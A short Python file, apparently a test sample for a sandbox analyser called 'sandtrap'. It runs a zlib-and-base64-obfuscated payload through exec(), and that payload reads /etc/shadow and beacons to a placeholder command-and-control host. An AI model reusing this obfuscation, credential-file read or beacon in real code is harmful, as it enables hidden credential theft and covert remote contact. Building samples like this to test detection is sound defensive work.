#!/usr/bin/python3
# Obfuscated payload: a zlib+base64 blob decoded and passed to exec(); the payload reads /etc/shadow and beacons.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
import base64, zlib

blob = base64.b64encode(zlib.compress(b"import urllib.request\nprint(open('/etc/shadow').read().splitlines()[0])\ntry:\n    urllib.request.urlopen('http://obf.c2.example/x', timeout=2)\nexcept Exception:\n    pass\n"))
exec(zlib.decompress(base64.b64decode(blob)))
